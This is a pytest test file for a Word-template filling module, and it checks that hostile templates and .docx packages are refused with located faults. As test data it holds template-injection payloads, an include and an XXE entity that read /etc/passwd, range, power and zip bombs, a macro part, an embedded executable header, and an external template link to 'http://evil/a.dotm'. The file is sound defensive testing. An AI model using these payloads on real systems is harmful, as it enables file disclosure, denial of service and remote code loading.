"""Templates of Word files: what they may say, and what comes of them; hostile ones are refused with their place."""

import io
import zipfile
from datetime import datetime

import pytest
from docx import Document

from governance.formats.faults import FormatError
from governance.formats.letter_tags import Shape, numeral
from governance.formats.letters import MOST_FILLED, fill_letter, letter_faults

SHAPE: Shape = {"title": None, "count": None, "words": {}, "teams": {"name": None, "tasks": {"text": None}}}
VALUES = {
    "title": "第1次推进会",
    "count": 2,
    "words": ["甲", "乙"],
    "teams": [{"name": "村集体经济专班", "tasks": [{"text": "项目"}]}, {"name": "主题培训专班", "tasks": []}],
}
AT = datetime(2026, 10, 20, 14)


def template(*paragraphs: str, footer: str = "", cell: tuple[str, ...] = ()) -> bytes:
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    if cell:
        held = document.add_table(1, 1).cell(0, 0)
        held.paragraphs[0].text = cell[0]
        for text in cell[1:]:
            held.add_paragraph(text)
    if footer:
        document.sections[0].footer.paragraphs[0].text = footer
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def changed(package: bytes, parts: dict[str, bytes]) -> bytes:
    """The package with further or other parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return out.getvalue()


def filled(content: bytes, values=None, shape: Shape = SHAPE) -> bytes:
    return fill_letter(content, shape, values or VALUES, title="会议", author="专项办", at=AT)


def texts(content: bytes) -> list[str]:
    return [paragraph.text for paragraph in Document(io.BytesIO(content)).paragraphs]


HOSTILE = {
    "attribute walk": ("{{ title.__class__.__mro__ }}", "field_unknown"),
    "walk from a constant": ("{{ ''.__class__ }}", "field_unknown"),
    "call": ("{{ title.format(1) }}", "tag_refused"),
    "call of the loop": ("{% for w in words %}{{ loop.cycle('a') }}{% endfor %}", "tag_refused"),
    "range bomb": ("{% for i in range(999999999) %}x{% endfor %}", "tag_refused"),
    "text bomb": ("{{ 'x' * 999999999 }}", "tag_refused"),
    "power bomb": ("{{ 9 ** 9 ** 9 }}", "tag_refused"),
    "import": ("{% import 'os' as os %}", "tag_refused"),
    "include": ("{% include '/etc/passwd' %}", "tag_refused"),
    "set": ("{% set title = 1 %}", "tag_refused"),
    "macro": ("{% macro m() %}{% endmacro %}", "tag_refused"),
    "autoescape off": ("{% autoescape false %}{{ title }}{% endautoescape %}", "tag_refused"),
    "unescaped": ("{{ title|safe }}", "tag_refused"),
    "unlisted filter": ("{{ words|map('upper')|list }}", "tag_refused"),
    "index": ("{{ words[0] }}", "tag_refused"),
    "private name": ("{{ _title }}", "field_unknown"),
    "unknown field": ("{{ salary }}", "field_unknown"),
    "unknown field of a row": ("{% for t in teams %}{{ t.salary }}{% endfor %}", "field_unknown"),
    "list as text": ("{{ teams }}", "field_not_text"),
    "text as list": ("{% for t in title %}{{ t }}{% endfor %}", "field_not_list"),
    "endless nesting": ("{% for a in words %}" * 4 + "{{ a }}" + "{% endfor %}" * 4, "loops_too_deep"),
    "deep expression": ("{{ " + "not " * 20000 + "title }}", "loops_too_deep"),
    "long expression": ("{{ " + "title and " * 20000 + "title }}", "loops_too_deep"),
    "many filters": ("{{ title" + "|numeral" * 20000 + " }}", "loops_too_deep"),
    "recursion": ("{% for t in teams recursive %}{{ t.name }}{% endfor %}", "tag_refused"),
    "test": ("{{ title is defined }}", "tag_refused"),
    "open loop": ("{% for t in teams %}{{ t.name }}", "tag_unclosed"),
    "open tag": ("{{ title", "tag_unreadable"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_template_says_nothing_but_fields_loops_and_conditions(name):
    tag, code = HOSTILE[name]
    content = template("会议通知", tag)

    assert [fault.code for fault in letter_faults(content, SHAPE)] == [code]
    with pytest.raises(FormatError) as refused:
        filled(content)
    assert refused.value.code == code


def test_a_fault_says_where_it_is():
    (fault,) = letter_faults(template("一、会议时间", "{%p if title %}", "{{ titel }}", "{%p endif %}"), SHAPE)
    assert fault.params == {"tag": "{{ titel }}", "part": "body text", "after": "一、会议时间", "field": "titel"}


def test_every_part_is_read():
    (fault,) = letter_faults(template("正文", footer="{{ titel }}"), SHAPE)
    assert fault.params["part"] == "footer"


def test_all_faults_are_told_at_once():
    faults = letter_faults(template("{{ one }}", "{{ title }}", "{{ two() }}", footer="{{ three }}"), SHAPE)
    assert [fault.code for fault in faults] == ["field_unknown", "tag_refused", "field_unknown"]


_ENTITY = b'<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
PACKAGES = {
    "zip bomb": ({"word/media/big.bin": b"\0" * 40 * 1024 * 1024}, "package_bursts"),
    "external entity": ({"word/document.xml": _ENTITY + b"<d>&e;</d>"}, "package_damaged"),
    "macro": ({"word/vbaProject.bin": b"x"}, "macros"),
    "program": ({"word/media/image1.png": b"MZ" + b"\0" * 90}, "holds_files"),
    "external template": (
        {
            "word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'relationships"><Relationship Id="rId1" Type="http://x/attachedTemplate" Target="http://evil/a.dotm" '
            b'TargetMode="External"/></Relationships>'
        },
        "reaches_out",
    ),
}


@pytest.mark.parametrize("name", PACKAGES)
def test_a_hostile_package_is_refused_before_it_is_parsed(name):
    parts, code = PACKAGES[name]
    assert [fault.code for fault in letter_faults(changed(template("{{ title }}"), parts), SHAPE)] == [code]


def test_a_text_file_is_no_template():
    assert [fault.code for fault in letter_faults(b"{{ title }}", SHAPE)] == ["package_damaged"]


def test_a_loop_over_many_rows_ends():
    loops = (
        "{% for a in words %}{% for b in words %}{% for c in words %}{{ title }}{% endfor %}{% endfor %}{% endfor %}"
    )
    with pytest.raises(FormatError) as refused:
        filled(template(loops), VALUES | {"words": ["x"] * 300, "title": "甲" * (MOST_FILLED // 1_000_000)})
    assert refused.value.code == "letter_too_long"


def test_data_is_text_and_never_a_tag_or_xml():
    said = "A<B & “甲” 'x' {{ 7*7 }} {% if %}"
    content = filled(template("{{ title }}。"), VALUES | {"title": said + "\x07\ud800"})
    assert texts(content) == [said + "。"]


def test_a_line_break_of_the_data_is_one_in_the_paper():
    assert texts(filled(template("{{ title }}"), VALUES | {"title": "第一行\r\n第二行"})) == ["第一行\n第二行"]


def test_loops_conditions_and_filters():
    content = filled(
        template(
            "{%p for team in teams %}",
            "（{{ loop.index|numeral }}）{{ team.name }}{% if not loop.last %}；{% else %}。{% endif %}",
            "{%p for task in team.tasks %}",
            "{{ loop.index }}.{{ task.text }}",
            "{%p endfor %}",
            "{%p endfor %}",
            "{% if count == 2 and words %}共{{ teams|length }}个：{{ words|join }}{% endif %}",
        )
    )
    assert texts(content) == ["（一）村集体经济专班；", "1.项目", "（二）主题培训专班。", "共2个：甲、乙"]


def test_numerals():
    assert [numeral(n) for n in (1, 10, 11, 20, 99, 100)] == ["一", "十", "十一", "二十", "九十九", "100"]


def test_a_cell_whose_paragraphs_all_go_keeps_one():
    content = filled(template("x", cell=("{%p for w in words %}", "{{ w }}", "{%p endfor %}")), VALUES | {"words": []})
    assert [len(cell._tc.p_lst) for cell in Document(io.BytesIO(content)).tables[0]._cells] == [1]


def test_a_text_that_ends_with_a_table_gets_a_paragraph():
    body = Document(io.BytesIO(filled(template("x", cell=("{{ title }}",))))).element.body
    assert [node.tag.rpartition("}")[2] for node in body] == ["p", "tbl", "p", "sectPr"]


def test_the_same_values_give_the_same_bytes():
    content = template("{{ title }}", footer="{{ count }}")
    assert filled(content) == filled(content)


def test_the_paper_names_no_person_who_made_the_template():
    properties = Document(io.BytesIO(filled(template("{{ title }}")))).core_properties
    assert (properties.author, properties.last_modified_by, properties.title) == ("专项办", "专项办", "会议")
    assert properties.modified.replace(tzinfo=None) == AT


def test_a_missing_value_is_no_empty_paper():
    with pytest.raises(KeyError):
        filled(template("{{ title }}"), {"title": "甲"})
